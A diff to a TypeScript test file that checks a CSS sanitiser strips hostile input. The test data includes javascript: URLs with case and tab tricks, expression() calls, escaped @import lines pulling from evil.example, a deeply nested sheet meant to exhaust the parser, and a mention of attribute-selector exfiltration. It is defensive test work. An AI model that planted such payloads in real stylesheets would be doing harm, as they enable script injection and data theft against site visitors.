@@ -1,5 +1,5 @@
 import { describe, expect, test } from 'vitest';
-import { sanitizeCss } from './css-sanitizer.js';
+import { CSS_MAX_NESTING, CssTooDeepError, cssNestingDepth, sanitizeCss } from './css-sanitizer.js';
 
 /*
  * The sanitiser on its own: each hostile construct from the issue, written
@@ -12,6 +12,13 @@ const reasons = (css: string) => sanitizeCss(css).dropped.map((d) => d.reason);
 
 describe('hostile CSS is stripped', () => {
   test.each([
+    ['uppercase URL(JAVASCRIPT:)', `a{background:URL("JAVASCRIPT:alert(1)");color:red}`, 'url_not_allowed'],
+    ['javascript: with a tab in the scheme', `a{background:url("java\tscript:alert(1)");color:red}`, 'url_not_allowed'],
+    ['mixed-case Expression()', `a{width:ExPrEsSiOn(alert(1));color:red}`, 'function_not_allowed'],
+    ['image-set() smuggling a URL', `a{background:image-set("javascript:alert(1)" 1x);color:red}`, 'function_not_allowed'],
+    ['attr()', `a{background:attr(data-x url);color:red}`, 'function_not_allowed'],
+    ['expression() in a custom property', `a{--x:expression(alert(1));color:red}`, 'function_not_allowed'],
+    ['javascript: url in a custom property', `a{--x:url(javascript:alert(1));color:red}`, 'unparseable'],
     ['escaped @import', String.raw`@\69 mport url(https://evil.example/x.css); a{color:red}`, 'import_not_allowed'],
     ['plain @import', `@import "https://evil.example/x.css"; a{color:red}`, 'import_not_allowed'],
     ['url(javascript:)', `a{background:url(javascript:alert(1));color:red}`, 'unparseable'],
@@ -31,6 +38,23 @@ describe('hostile CSS is stripped', () => {
     const { css: out, dropped } = sanitizeCss(css);
     expect(dropped.map((d) => d.reason)).toContain(reason);
     expect(out).toBe('a{color:red}');
+  });
+
+  test('hostile parts inside grouping rules, keyframes and @font-face are stripped too', () => {
+    const { css } = sanitizeCss(String.raw`@media screen{a{width:e8 pression(1);color:red}}
+      @supports (background:url(javascript:1)){b{color:red}}
+      @keyframes k{from{background:url(javascript:alert(1))}to{opacity:1}}
+      @font-face{font-family:X;src:url(javascript:alert(1))}
+      @media (min-width:expression(1)){c{color:red}}
+      @media print{@\69 mport url(https://evil.example/x.css);d{color:red}}`);
+    expect(css).toBe('@media screen{a{color:red}}@keyframes k{from{}to{opacity:1}}@font-face{font-family:X}@media print{d{color:red}}');
+  });
+
+  test('a sheet nested deeper than the parser can take is refused whole, without parsing', () => {
+    const deep = '@media screen{'.repeat(5000) + 'a{color:red}' + '}'.repeat(5000);
+    expect(() => sanitizeCss(deep)).toThrow(CssTooDeepError);
+    expect(cssNestingDepth('a{content:"{{{{"}/* (((( */b{color:red}')).toBe(1);
+    expect(cssNestingDepth('@media x{'.repeat(CSS_MAX_NESTING - 1) + 'a{b:c}' + '}'.repeat(CSS_MAX_NESTING - 1))).toBe(CSS_MAX_NESTING);
   });
 
   test('attribute-selector exfiltration to a foreign host loses its URL, keeps its styling', () => {
